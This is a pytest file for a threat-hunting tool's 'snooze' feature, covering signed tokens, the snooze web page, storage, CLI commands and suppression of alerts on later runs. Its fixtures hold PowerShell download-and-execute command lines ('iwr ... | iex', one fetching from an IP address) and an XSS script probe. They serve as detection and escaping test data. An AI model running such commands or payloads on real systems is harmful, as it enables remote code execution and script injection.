"""Snooze from the card: the signed token, the page (GET never writes, only POST creates), the
snooze table, `huntwire suppressions list|remove`, and a snoozed finding not reaching Teams on the
next `run --once` (on that device only). Azurite, a local webhook and the real function; nothing
of ours is mocked. Scope, revocation and bad rows: tests/test_snooze_scope.py."""

from __future__ import annotations

import json
import logging
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import azure.functions as func
import pytest
from azure.data.tables import TableServiceClient

from devtools.webhook import WebhookReceiver
from shared.hunt import load_hunts
from shared.suppress.scope import snooze_values
from shared.suppress.store import PARTITION, TABLE
from shared.suppress.token import TokenError, finding_fingerprint, make_token, read_token
from shared.suppress.wiring import snooze_url
from tests.card_text import texts as card_texts
from tests.fanout_world import clear_tables

REPO = Path(__file__).resolve().parents[1]
KEY = b"k" * 32
NOW = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)
CRADLE_ID = "2372bd2b-5011-45d5-8970-cd90ddc2c07a"
LINE = "powershell -c \"iwr https://vendor.example/p.ps1 | iex\" <script>alert(1)</script>"
DEVICE = {"DeviceId": "a" * 40, "DeviceName": "ws-fin-014.contoso.example"}
VALUES = {**DEVICE, "ProcessCommandLine": LINE, "InitiatingProcessFileName": "agent.exe"}


# -- the token ------------------------------------------------------------------------------

def test_a_genuine_token_reads_back_its_claim() -> None:
    token = make_token(KEY, CRADLE_ID, VALUES, NOW + timedelta(days=7))
    claim = read_token(KEY, token, NOW, hunt_id=CRADLE_ID,
                       fingerprint=finding_fingerprint(CRADLE_ID, VALUES))
    assert (claim.hunt_id, claim.values) == (CRADLE_ID, VALUES)


def test_a_forged_or_tampered_token_is_refused() -> None:
    token = make_token(KEY, CRADLE_ID, VALUES, NOW + timedelta(days=7))
    with pytest.raises(TokenError, match="signature"):
        read_token(b"x" * 32, token, NOW)  # signed with another key
    other = make_token(KEY, CRADLE_ID, {**VALUES, "InitiatingProcessFileName": "evil.exe"},
                       NOW + timedelta(days=7))
    spliced = ".".join([*other.split(".")[:2], token.split(".")[2]])  # B's payload, A's MAC
    with pytest.raises(TokenError, match="signature"):
        read_token(KEY, spliced, NOW)
    for broken in ("", "v1.abc", token + "x", "v3." + token[3:], token.replace(".", "..")):
        with pytest.raises(TokenError):
            read_token(KEY, broken, NOW)


def test_an_expired_token_is_refused() -> None:
    token = make_token(KEY, CRADLE_ID, VALUES, NOW + timedelta(days=7))
    with pytest.raises(TokenError, match="expired"):
        read_token(KEY, token, NOW + timedelta(days=7))


def test_a_token_replayed_for_a_different_finding_is_refused() -> None:
    token = make_token(KEY, CRADLE_ID, VALUES, NOW + timedelta(days=7))
    other = {**VALUES, "ProcessCommandLine": "powershell -c evil"}
    with pytest.raises(TokenError, match="another finding"):
        read_token(KEY, token, NOW, fingerprint=finding_fingerprint(CRADLE_ID, other))
    with pytest.raises(TokenError, match="another hunt"):
        read_token(KEY, token, NOW, hunt_id="69538969-9709-4cf4-85d4-9ca7a104c1ec")


def test_a_short_key_is_refused() -> None:
    with pytest.raises(TokenError, match="32 bytes"):
        make_token(b"short", CRADLE_ID, VALUES, NOW)


def test_snooze_url_needs_key_and_public_url_and_names_device_never_account_or_time() -> None:
    (hunt,) = [h for h in load_hunts(REPO / "hunts").hunts if h.id == CRADLE_ID]
    row = {**VALUES, "Timestamp": NOW, "AccountName": "jdoe", "ReportId": 7}
    assert snooze_url(None, hunt, row) is None  # nothing configured here
    env = {"HUNTWIRE_SNOOZE_KEY": KEY.decode(), "HUNTWIRE_PUBLIC_URL": "https://hw.example/"}

    class Settings:
        snooze_key, public_url = env["HUNTWIRE_SNOOZE_KEY"], env["HUNTWIRE_PUBLIC_URL"]

    link = snooze_url(Settings(), hunt, row, now=NOW)
    assert link is not None
    label, url = link
    assert label == ("PowerShell download cradle and stager on ws-fin-014.contoso.example: "
                     "this powershell command line launched by agent.exe")
    assert url.startswith("https://hw.example/api/snooze?t=")
    claim = read_token(KEY, parse_qs(urlsplit(url).query)["t"][0], NOW)
    assert claim.values == snooze_values(row) == VALUES


# -- the page through the real function -----------------------------------------------------

@pytest.fixture
def snooze_env(storage_connection_string: str, monkeypatch: pytest.MonkeyPatch,
               ) -> Iterator[WebhookReceiver]:
    service = TableServiceClient.from_connection_string(storage_connection_string)
    service.delete_table(TABLE)
    with WebhookReceiver() as webhook:
        for name, value in {"HUNTWIRE_STORAGE": storage_connection_string,
                            "HUNTWIRE_SNOOZE_KEY": KEY.decode(),
                            "HUNTWIRE_TEAMS_WEBHOOK_URL": webhook.url,
                            "HUNTWIRE_HUNTS_DIR": str(REPO / "hunts")}.items():
            monkeypatch.setenv(name, value)
        import function_app

        function_app.settings.cache_clear()
        yield webhook
        function_app.settings.cache_clear()


@pytest.fixture(scope="module")
def page() -> Callable[[func.HttpRequest], func.HttpResponse]:
    import function_app

    function = function_app.snooze.build()
    (trigger, _) = [b.get_dict_repr() for b in function.get_bindings()]
    assert trigger["type"] == "httpTrigger"
    assert trigger["route"] == "snooze"
    assert str(trigger["authLevel"]).lower().endswith("anonymous")
    user: Callable[[func.HttpRequest], func.HttpResponse] = function.get_user_function()
    return user


def get(token: str) -> func.HttpRequest:
    return func.HttpRequest("GET", "https://hw.example/api/snooze", params={"t": token},
                            body=b"")


def post(fields: dict[str, str]) -> func.HttpRequest:
    return func.HttpRequest("POST", "https://hw.example/api/snooze", body=urlencode(
        fields).encode(), headers={"Content-Type": "application/x-www-form-urlencoded"})


def stored(connection_string: str, partition: str = PARTITION) -> list[dict[str, Any]]:
    """The snoozes (or, with another *partition*, the spent and revoked link markers)."""
    service = TableServiceClient.from_connection_string(connection_string)
    if TABLE not in [t.name for t in service.list_tables()]:
        return []
    return [dict(e) for e in service.get_table_client(TABLE).list_entities()
            if e["PartitionKey"] == partition]


def valid_token(values: dict[str, str] = VALUES) -> str:
    return make_token(KEY, CRADLE_ID, values, datetime.now(UTC) + timedelta(days=7))


def test_get_shows_what_would_be_suppressed_escaped_and_never_writes(
        page: Any, snooze_env: WebhookReceiver, storage_connection_string: str) -> None:
    response = page(get(valid_token()))
    body = response.get_body().decode()
    assert response.status_code == 200
    assert "PowerShell download cradle and stager" in body
    assert "on device <b>ws-fin-014.contoso.example</b> only" in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert "<script>" not in body
    assert '<form method="post">' in body
    assert 'name="reason"' in body
    assert 'name="name"' in body
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
    for _ in range(3):  # link scanners open it again and again
        page(get(valid_token()))
    assert stored(storage_connection_string) == []
    assert snooze_env.payloads == []


def test_refused_tokens_and_forms_write_nothing(
        page: Any, snooze_env: WebhookReceiver, storage_connection_string: str) -> None:
    token = valid_token()
    fingerprint = finding_fingerprint(CRADLE_ID, VALUES)
    expired = make_token(KEY, CRADLE_ID, VALUES, datetime.now(UTC) - timedelta(seconds=1))
    forged = make_token(b"f" * 32, CRADLE_ID, VALUES, datetime.now(UTC) + timedelta(days=1))
    other = finding_fingerprint(CRADLE_ID, {"ProcessCommandLine": "evil"})
    cases = [
        (get(forged), 403), (get(expired), 403), (get(""), 403),
        (post({"t": expired, "finding": fingerprint, "reason": "r", "name": "n"}), 403),
        (post({"t": forged, "finding": fingerprint, "reason": "r", "name": "n"}), 403),
        (post({"t": token, "finding": other, "reason": "r", "name": "n"}), 403),
        (post({"t": token, "finding": fingerprint, "reason": "", "name": "n"}), 400),
        (post({"t": token, "finding": fingerprint, "reason": "r", "name": "n", "days": "31"}),
         400),
    ]
    for request, status in cases:
        assert page(request).status_code == status
    assert stored(storage_connection_string) == []
    assert snooze_env.payloads == []


def test_post_creates_one_snooze_audits_and_announces_it_once(
        page: Any, snooze_env: WebhookReceiver, storage_connection_string: str,
        caplog: pytest.LogCaptureFixture) -> None:
    fields = {"t": valid_token(), "finding": finding_fingerprint(CRADLE_ID, VALUES),
              "reason": "vendor agent *policy* push", "name": "Dana Chen", "days": "7"}
    with caplog.at_level(logging.INFO, logger="huntwire"):
        response = page(post(fields))
    assert response.status_code == 201, response.get_body()
    (entity,) = stored(storage_connection_string)
    assert entity["Hunt"] == CRADLE_ID
    assert json.loads(entity["Where"]) == VALUES
    assert entity["Owner"] == "Dana Chen"
    assert entity["Reason"] == "vendor agent *policy* push"
    expires = datetime.fromisoformat(entity["Expires"]).date()
    assert expires == (datetime.now(UTC) + timedelta(days=7)).date()
    (audit,) = [r.getMessage() for r in caplog.records if "huntwire.snooze " in r.getMessage()]
    assert "Dana Chen" in audit
    assert entity["RowKey"] in audit
    (announcement,) = snooze_env.payloads
    (line,) = [text for text in card_texts(announcement) if "snoozed" in text]
    assert "Dana Chen snoozed" in line
    assert "\n" not in line
    assert len(line) < 400
    assert "*policy*" in line  # a TextRun: plain text, shown as typed, never Markdown
    assert "<script>" not in json.dumps(announcement)
    # The same link again (a replay, or a second click) changes nothing; so does another
    # card's link for the same finding while the snooze is active.
    assert page(post(fields)).status_code == 409
    assert page(post({**fields, "t": valid_token()})).status_code == 409
    assert len(stored(storage_connection_string)) == 1
    assert len(snooze_env.payloads) == 1


def huntwire(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "shared", *args], cwd=REPO, env=env,
                          text=True, capture_output=True, timeout=300, check=False)


def test_list_and_remove(page: Any, snooze_env: WebhookReceiver,
                         storage_connection_string: str) -> None:
    fields = {"t": valid_token(), "finding": finding_fingerprint(CRADLE_ID, VALUES),
              "reason": "vendor", "name": "Dana"}
    assert page(post(fields)).status_code == 201
    env = {"PATH": "/usr/bin:/bin", "HUNTWIRE_STORAGE": storage_connection_string}
    listed = json.loads(huntwire(env, "suppressions", "list", "--format", "json").stdout)
    (snooze,) = listed
    assert snooze["owner"] == "Dana"
    assert snooze["active"] is True
    assert huntwire(env, "suppressions", "remove", snooze["id"]).returncode == 0
    assert stored(storage_connection_string) == []
    missing = huntwire(env, "suppressions", "remove", snooze["id"])
    assert missing.returncode == 1
    assert "no snooze" in missing.stderr


# -- end to end: a snoozed finding does not reach Teams on the next run ---------------------

def process_event(report_id: int, when: datetime, command: str, device: int = 1,
                  ) -> dict[str, Any]:
    return {"Timestamp": when.strftime("%Y-%m-%dT%H:%M:%SZ"), "DeviceId": f"dev-{device}",
            "DeviceName": f"ws-{device}", "ReportId": report_id,
            "ActionType": "ProcessCreated", "FileName": "powershell.exe",
            "ProcessCommandLine": command, "ProcessId": report_id, "AccountDomain": "contoso",
            "AccountName": "svc", "InitiatingProcessFileName": "agent.exe",
            "InitiatingProcessCommandLine": "agent.exe --service"}


def test_a_snoozed_finding_does_not_reach_teams_on_the_next_run(
        tmp_path: Path, page: Any, snooze_env: WebhookReceiver,
        storage_connection_string: str) -> None:
    hunts = tmp_path / "hunts"
    hunts.mkdir()
    shutil.copy(REPO / "hunts" / "powershell-download-cradle-stager.yaml", hunts)
    clear_tables(storage_connection_string)
    first, second = datetime(2026, 11, 30, 10, tzinfo=UTC), datetime(2026, 11, 30, 11, tzinfo=UTC)
    vendor = "powershell -w hidden -c \"iwr https://vendor.example/policy.ps1 | iex\""
    other = "powershell -w hidden -c \"iwr https://198.51.100.7/a.ps1 | iex\""
    events = tmp_path / "events.jsonl"
    (tmp_path / "no-rules").mkdir()  # an explicitly set folder must exist
    env = {"PATH": "/usr/bin:/bin", "HUNTWIRE_STORAGE": storage_connection_string,
           "HUNTWIRE_TEAMS_WEBHOOK_URL": snooze_env.url, "HUNTWIRE_HUNTS_DIR": str(hunts),
           "HUNTWIRE_SUPPRESSIONS_DIR": str(tmp_path / "no-rules"),
           "HUNTWIRE_HEARTBEAT_HOUR": "off"}  # count only digests and the announcement

    def run(now: datetime, rows: list[dict[str, Any]]) -> dict[str, Any]:
        events.write_text("".join(json.dumps(r) + "\n" for r in rows))
        done = huntwire(env, "run", "--once", "--format", "json", "--now", now.isoformat(),
                        "--events", f"DeviceProcessEvents={events}")
        assert done.returncode == 0, done.stderr
        (hunt,) = json.loads(done.stdout)["hunts"]
        return hunt  # type: ignore[no-any-return]

    one = run(first, [process_event(1, first - timedelta(minutes=20), vendor)])
    assert (one["new"], one["posted"]) == (1, 1)
    assert len(snooze_env.payloads) == 1
    # The analyst snoozes it from the card's link (built from the row the hunt returned).
    values = snooze_values(one["new_findings"][0])
    assert values["ProcessCommandLine"] == vendor
    token = make_token(KEY, CRADLE_ID, values, datetime.now(UTC) + timedelta(days=7))
    assert page(post({"t": token, "finding": finding_fingerprint(CRADLE_ID, values),
                      "reason": "vendor policy push", "name": "Dana"})).status_code == 201
    assert len(snooze_env.payloads) == 2  # the one-line announcement
    assert values["DeviceId"] == "dev-1"
    # Next hour: the same agent on the same machine (silenced), on another machine (reported:
    # a snooze is scoped to its device), and a real cradle on the first machine.
    two = run(second, [process_event(2, second - timedelta(minutes=10), vendor),
                       process_event(4, second - timedelta(minutes=8), vendor, device=2),
                       process_event(3, second - timedelta(minutes=5), other)])
    assert two["rows"] == 3
    assert two["suppressed"] == {f"snooze-{finding_fingerprint(CRADLE_ID, values)}": 1}
    assert two["new"] == 2
    posted = json.dumps(snooze_env.payloads[2:])  # the card defangs URLs: match the paths
    assert "/a.ps1" in posted
    assert "policy.ps1" in posted  # from ws-2 only
    assert "ws-2" in posted
